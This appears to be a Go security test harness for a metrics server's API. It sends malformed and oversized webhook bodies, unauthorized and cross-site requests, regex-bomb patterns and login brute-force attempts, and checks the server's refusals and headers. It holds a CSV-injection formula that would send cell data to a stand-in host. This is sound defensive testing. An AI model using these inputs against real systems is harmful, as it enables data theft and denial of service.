package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/pandev-metrics/pandev/internal/store"
)

// abuseResult is one hostile request, what the server must answer, what it
// answered, and whether the database changed (it must not, except where
// the case says a delivery is stored).
type abuseResult struct {
	Group, Case string
	Want        []int
	Got         int
	Changed     bool
	MayChange   bool
	// Problem is what was wrong with an answer whose status was right (a
	// missing header, an unsafe cell).
	Problem string
}

// OK says the answer was one of Want, nothing changed that must not, and
// nothing was wrong with it.
func (r abuseResult) OK() bool {
	okCode := false
	for _, w := range r.Want {
		okCode = okCode || w == r.Got
	}
	return okCode && (r.MayChange || !r.Changed) && r.Problem == ""
}

// abuse tries a corpus of hostile webhook bodies, every route of the route
// table with the wrong caller (nobody, a member on admin routes, another
// workspace), a cross-site request with a session, and login brute force,
// against a running server with data in two workspaces.
func abuse(ctx context.Context, a *app) ([]abuseResult, error) {
	integrationID, secret, err := benchIntegration(ctx, a)
	if err != nil {
		return nil, err
	}
	const password = "correct horse battery staple"
	admin, err := a.auth.CreateUser(ctx, "admin@bench.example", password, "bench", store.RoleAdmin)
	if err != nil {
		return nil, err
	}
	member, err := a.auth.CreateUser(ctx, "member@bench.example", password, "bench", store.RoleMember)
	if err != nil {
		return nil, err
	}
	other, err := a.auth.CreateUser(ctx, "admin@other.example", password, "other", store.RoleAdmin)
	if err != nil {
		return nil, err
	}
	adminTok, _, err := a.auth.CreateToken(ctx, admin.ID, "admin")
	if err != nil {
		return nil, err
	}
	memberTok, _, err := a.auth.CreateToken(ctx, member.ID, "member")
	if err != nil {
		return nil, err
	}
	otherTok, _, err := a.auth.CreateToken(ctx, other.ID, "other")
	if err != nil {
		return nil, err
	}
	_, adminTokRow, err := a.auth.CreateToken(ctx, admin.ID, "victim")
	if err != nil {
		return nil, err
	}

	hc := &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	var out []abuseResult
	try := func(group, name string, want []int, mayChange bool, req *http.Request) error {
		before, err := fingerprint(ctx, a.db)
		if err != nil {
			return err
		}
		res, err := hc.Do(req)
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		time.Sleep(20 * time.Millisecond) // let an accepted delivery's processing land before comparing
		after, err := fingerprint(ctx, a.db)
		if err != nil {
			return err
		}
		out = append(out, abuseResult{Group: group, Case: name, Want: want, Got: res.StatusCode, Changed: before != after, MayChange: mayChange})
		return nil
	}

	// Hostile webhook bodies.
	hook := a.URL() + "/v1/azure/webhook/project"
	valid := `{"id":"abuse-1","eventType":"git.push","resourceContainers":{"project":{"id":"p"}},"resource":{"repository":{"id":"r","project":{"id":"p"}},"commits":[]}}`
	nested := strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)
	bodies := []struct {
		name      string
		body      []byte
		user      string
		pass      string
		want      int
		mayChange bool
	}{
		{"body over 4 MiB", append([]byte(`{"id":"big","eventType":"git.push","x":"`), append(bytes.Repeat([]byte("a"), 5<<20), `"}`...)...), integrationID, secret, 413, false},
		{"100,000 levels of nesting", []byte(`{"id":"deep","eventType":"git.push","resource":` + nested + `}`), integrationID, secret, 400, false},
		{"id is a number", []byte(`{"id":123,"eventType":"git.push"}`), integrationID, secret, 400, false},
		{"eventType is an object", []byte(`{"id":"x","eventType":{"a":1}}`), integrationID, secret, 400, false},
		{"invalid UTF-8", []byte("{\"id\":\"x\xff\xfe\",\"eventType\":\"git.push\"}"), integrationID, secret, 400, false},
		{"no eventType", []byte(`{"id":"x"}`), integrationID, secret, 400, false},
		{"no id", []byte(`{"eventType":"git.push"}`), integrationID, secret, 400, false},
		{"not JSON", []byte(`<xml/>`), integrationID, secret, 400, false},
		{"empty body", nil, integrationID, secret, 400, false},
		{"no credentials", []byte(valid), "", "", 401, false},
		{"wrong secret", []byte(valid), integrationID, "guess", 401, false},
		{"unknown integration", []byte(valid), store.NewID(), secret, 401, false},
		{"valid delivery (stored)", []byte(valid), integrationID, secret, 200, true},
		{"replayed with a wrong secret", []byte(valid), integrationID, secret + "x", 401, false},
		{"forged: known event id, other payload", []byte(strings.Replace(valid, `"commits":[]`, `"commits":[{"commitId":"evil"}]`, 1)), integrationID, secret, 200, false},
		{"resource of the wrong type", []byte(`{"id":"abuse-2","eventType":"git.push","resourceContainers":{"project":{"id":"p"}},"resource":"x"}`), integrationID, secret, 200, true},
		{"unknown project", []byte(`{"id":"abuse-3","eventType":"git.push","resourceContainers":{"project":{"id":"nope"}},"resource":{}}`), integrationID, secret, 200, true},
	}
	for _, b := range bodies {
		req, _ := http.NewRequestWithContext(ctx, "POST", hook, bytes.NewReader(b.body))
		if b.user != "" {
			req.SetBasicAuth(b.user, b.pass)
		}
		if err := try("webhook", b.name, []int{b.want}, b.mayChange, req); err != nil {
			return nil, err
		}
	}

	// Every route with the wrong caller.
	for _, r := range a.server.Routes() {
		method, path, ok := strings.Cut(r.Pattern, " ")
		if !ok {
			method, path = "GET", r.Pattern
		}
		path = strings.NewReplacer("{id}", adminTokRow.ID, "{kind}", "dora", "{provider}", "azure-devops", "{$}", "").Replace(path)
		isAPI := strings.HasPrefix(path, "/api/")
		call := func(tok string) *http.Request {
			req, _ := http.NewRequestWithContext(ctx, method, a.URL()+path, strings.NewReader("{}"))
			req.Header.Set("Content-Type", "application/json")
			if tok != "" {
				req.Header.Set("Authorization", "Bearer "+tok)
			}
			return req
		}
		switch r.Access {
		case "member", "admin", "operator":
			want := []int{401}
			if !isAPI {
				want = []int{303, 401} // pages send a browser to sign in
			}
			if err := try("routes", r.Pattern+" without credentials", want, false, call("")); err != nil {
				return nil, err
			}
			if isAPI && r.Access == "admin" {
				if err := try("routes", r.Pattern+" as a member", []int{403}, false, call(memberTok.Reveal())); err != nil {
					return nil, err
				}
			}
			if r.Access == "operator" {
				if err := try("routes", r.Pattern+" as a workspace admin", []int{403}, false, call(adminTok.Reveal())); err != nil {
					return nil, err
				}
			}
		}
	}
	// Another workspace's admin reaches nothing of this one: this
	// workspace's token and integration do not exist for it.
	for _, c := range []struct{ method, path string }{
		{"DELETE", "/api/v1/tokens/" + adminTokRow.ID},
		{"PATCH", "/api/v1/integrations/azure-devops/settings"},
		{"POST", "/api/v1/integrations/azure-devops/sync"},
		{"PUT", "/api/v1/integrations/azure-devops/projects"},
		{"DELETE", "/api/v1/integrations/azure-devops?data=delete"},
	} {
		req, _ := http.NewRequestWithContext(ctx, c.method, a.URL()+c.path, strings.NewReader(`{"selected":["p"]}`))
		req.Header.Set("Authorization", "Bearer "+otherTok.Reveal())
		req.Header.Set("Content-Type", "application/json")
		if err := try("workspaces", c.method+" "+c.path+" from another workspace", []int{404}, false, req); err != nil {
			return nil, err
		}
	}
	_ = adminTok

	// A cross-site request riding a signed-in admin's session.
	form := url.Values{"email": {"admin@bench.example"}, "password": {password}}
	res, err := hc.PostForm(a.URL()+"/login", form)
	if err != nil {
		return nil, err
	}
	res.Body.Close()
	var session *http.Cookie
	for _, c := range res.Cookies() {
		session = c
	}
	if session == nil {
		return nil, fmt.Errorf("sign-in for the CSRF case failed: %d", res.StatusCode)
	}
	for _, c := range []struct{ method, path, body string }{
		{"POST", "/api/v1/tokens", `{"name":"csrf"}`},
		{"PUT", "/api/v1/integrations/azure-devops/projects", `{"selected":[]}`},
		{"POST", "/settings/integrations/azure-devops/sync", ``},
	} {
		req, _ := http.NewRequestWithContext(ctx, c.method, a.URL()+c.path, strings.NewReader(c.body))
		req.AddCookie(session)
		req.Header.Set("Origin", "https://evil.example")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		req.Header.Set("Content-Type", "application/json")
		if err := try("csrf", c.method+" "+c.path+" from another site with a session", []int{403}, false, req); err != nil {
			return nil, err
		}
	}

	// Browser protections on every answer, and no directory listings.
	for _, path := range []string{"/login", "/", "/api/v1/me", "/static/app.css", "/healthz"} {
		req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+path, nil)
		res, err := hc.Do(req)
		if err != nil {
			return nil, err
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		problem := ""
		for h, want := range map[string]string{"Content-Security-Policy": "frame-ancestors 'none'",
			"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "same-origin"} {
			if !strings.Contains(res.Header.Get(h), want) {
				problem += fmt.Sprintf("%s lacks %q; ", h, want)
			}
		}
		for _, d := range strings.Split(res.Header.Get("Content-Security-Policy"), ";") {
			if d = strings.TrimSpace(d); strings.HasPrefix(d, "script-src") && strings.Contains(d, "'unsafe-inline'") {
				problem += "inline script allowed; "
			}
		}
		out = append(out, abuseResult{Group: "headers", Case: "GET " + path + " carries the browser protections",
			Want: []int{res.StatusCode}, Got: res.StatusCode, Problem: problem})
	}
	for _, path := range []string{"/static/", "/static/dashboard/"} {
		req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+path, nil)
		if err := try("headers", "GET "+path+" lists no files", []int{404}, false, req); err != nil {
			return nil, err
		}
	}

	// An API token cannot mint tokens (one leaked would outlive revocation).
	req, _ := http.NewRequestWithContext(ctx, "POST", a.URL()+"/api/v1/tokens", strings.NewReader(`{"name":"minted"}`))
	req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
	req.Header.Set("Content-Type", "application/json")
	if err := try("tokens", "POST /api/v1/tokens with an API token", []int{403}, false, req); err != nil {
		return nil, err
	}

	// Rule patterns are bounded: a 679 KB pattern once took 13.7 s and
	// 620 MB to preview; now it is refused before it is compiled.
	for name, pattern := range map[string]string{"a 679 KB rule pattern": strings.Repeat("(a|b)", 135_800),
		"a rule pattern compiling to a huge program": `(?:a{1000}|b{1000}|c{1000}|d{1000}|e{1000}|f{1000})`} {
		for _, path := range []string{"/api/v1/integrations/azure-devops/rules/preview", "/api/v1/integrations/azure-devops/settings"} {
			method := "POST"
			if strings.HasSuffix(path, "/settings") {
				method = "PATCH"
			}
			body := `{"deployment_rule":"` + pattern + `"}`
			req, _ := http.NewRequestWithContext(ctx, method, a.URL()+path, strings.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
			req.Header.Set("Content-Type", "application/json")
			if err := try("input", method+" "+path+" with "+name, []int{400, 413}, false, req); err != nil {
				return nil, err
			}
		}
	}

	// Query windows have no sentinel that skips the two-year limit.
	for _, path := range []string{"/api/v1/metrics/dora?from=0001-01-01&to=2026-12-01",
		"/api/v1/metrics/pull-requests?from=0001-01-01&to=2026-12-01", "/api/v1/commits?from=0001-01-01"} {
		req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+path, nil)
		req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
		if err := try("input", "GET "+path, []int{400}, false, req); err != nil {
			return nil, err
		}
	}

	// /metrics answers only the scraper that holds PANDEV_METRICS_TOKEN.
	if tok := a.cfg.MetricsToken; tok != "" {
		for name, auth := range map[string]string{"without a token": "", "with a wrong token": "Bearer x" + tok, "with an API token": "Bearer " + adminTok.Reveal()} {
			req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+"/metrics", nil)
			if auth != "" {
				req.Header.Set("Authorization", auth)
			}
			if err := try("headers", "GET /metrics "+name, []int{401}, false, req); err != nil {
				return nil, err
			}
		}
	} else {
		out = append(out, abuseResult{Group: "headers", Case: "GET /metrics is guarded", Want: []int{401}, Got: 200,
			Problem: "the abuse server runs without PANDEV_METRICS_TOKEN"})
	}

	// Disconnect never deletes data by default.
	req, _ = http.NewRequestWithContext(ctx, "DELETE", a.URL()+"/api/v1/integrations/azure-devops", nil)
	req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
	if err := try("input", "DELETE the integration without saying what happens to its data", []int{400}, false, req); err != nil {
		return nil, err
	}

	// Every free-text setting is bounded: a hostile form cannot store
	// megabytes that every dashboard rebuild then reads.
	many := make([]string, 10_000)
	for i := range many {
		many[i] = fmt.Sprintf(`"type %d"`, i)
	}
	flags := make([]string, 10_000)
	for i := range flags {
		flags[i] = fmt.Sprintf(`"p%d":true`, i)
	}
	for name, body := range map[string]string{
		"a 100,000-character incident tag":     `{"incident_tag":"` + strings.Repeat("x", 100_000) + `"}`,
		"10,000 incident work item types":      `{"incident_types":[` + strings.Join(many, ",") + `]}`,
		"10,000 per-project comment overrides": `{"project_comments":{` + strings.Join(flags, ",") + `}}`,
		"an incident tag with a line break":    `{"incident_tag":"a\nb"}`,
	} {
		req, _ := http.NewRequestWithContext(ctx, "PATCH", a.URL()+"/api/v1/integrations/azure-devops/settings", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
		req.Header.Set("Content-Type", "application/json")
		if err := try("input", "PATCH settings with "+name, []int{400, 413}, false, req); err != nil {
			return nil, err
		}
	}

	// CSV exports neutralize cells a spreadsheet would run as formulas
	// (a PR title typed in Azure DevOps: OWASP CSV injection).
	ws, err := a.db.EnsureWorkspace(ctx, "bench", time.Now())
	if err != nil {
		return nil, err
	}
	formula := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	if _, err := a.db.UpsertPullRequest(ctx, store.PullRequest{Key: store.Key{IntegrationID: integrationID, WorkspaceID: ws.ID},
		PRID: 4242, ProjectID: "p", RepoID: "r", Title: formula, Status: "active", AuthorID: "a", CreatedAt: time.Now(),
		ProviderUpdatedAt: time.Now()}); err != nil {
		return nil, err
	}
	req, _ = http.NewRequestWithContext(ctx, "GET", a.URL()+"/api/v1/pull-requests", nil)
	req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
	req.Header.Set("Accept", "text/csv")
	res, err = hc.Do(req)
	if err != nil {
		return nil, err
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	problem := ""
	switch {
	case !strings.Contains(string(body), "HYPERLINK"):
		problem = "the export does not hold the PR"
	case !strings.Contains(string(body), `'=HYPERLINK`):
		problem = "a formula cell is exported as a formula"
	}
	out = append(out, abuseResult{Group: "csv", Case: "a PR title starting with = is exported as text", Want: []int{200},
		Got: res.StatusCode, Problem: problem})

	orgURLResults, err := abuseOrgURL(ctx, a, adminTok.Reveal())
	if err != nil {
		return nil, err
	}
	out = append(out, orgURLResults...)

	people, err := abusePeople(ctx, a, hc)
	if err != nil {
		return nil, err
	}
	out = append(out, people...)

	// Login brute force: five wrong passwords, then each guess from that
	// address waits longer (2 s, 4 s, …): at once it is refused.
	for i := range 7 {
		want := []int{401}
		if i >= 5 {
			want = []int{429}
		}
		req, _ := http.NewRequestWithContext(ctx, "POST", a.URL()+"/login",
			strings.NewReader(url.Values{"email": {"member@bench.example"}, "password": {fmt.Sprint("guess", i)}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if err := try("login", fmt.Sprintf("wrong password #%d", i+1), want, false, req); err != nil {
			return nil, err
		}
	}
	// A stranger guessing the admin's password from another address
	// (127.0.0.3) does not lock the admin out of the address they signed
	// in from (the CSRF case above): lanes are per account and address.
	stranger := &http.Client{Timeout: 30 * time.Second, CheckRedirect: hc.CheckRedirect,
		Transport: &http.Transport{DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 3)}}).DialContext}}
	for i := range 12 {
		res, err := stranger.PostForm(a.URL()+"/login", url.Values{"email": {"admin@bench.example"}, "password": {fmt.Sprint("guess", i)}})
		if err != nil {
			return nil, fmt.Errorf("a stranger's guess: %w", err)
		}
		res.Body.Close()
	}
	req, _ = http.NewRequestWithContext(ctx, "POST", a.URL()+"/login",
		strings.NewReader(url.Values{"email": {"admin@bench.example"}, "password": {password}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	// (Signing in creates a session: the one change allowed.)
	if err := try("login", "the owner signs in from their address after a stranger's 12 guesses", []int{303}, true, req); err != nil {
		return nil, err
	}
	return out, nil
}

// fingerprint is a cheap summary of what hostile requests could change:
// row counts of every table they reach, roles, disabled users, operators,
// sessions, paused queues and the integration's last update.
func fingerprint(ctx context.Context, db *store.DB) (string, error) {
	var s string
	err := db.SQL().QueryRowContext(ctx, `SELECT
		CAST((SELECT COUNT(*) FROM webhook_inbox) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM api_tokens) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM integrations) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM provider_projects WHERE selected) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM users) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM users WHERE role = 'admin') AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM users WHERE disabled_at IS NOT NULL) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM users WHERE operator) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM sessions) AS TEXT) || '/' ||
		CAST((SELECT COUNT(*) FROM river_queue WHERE paused_at IS NOT NULL) AS TEXT) || '/' ||
		COALESCE((SELECT CAST(MAX(updated_at) AS TEXT) FROM integrations), '') || '/' ||
		COALESCE((SELECT MAX(payload) FROM webhook_inbox), '')`).Scan(&s)
	return s, err
}
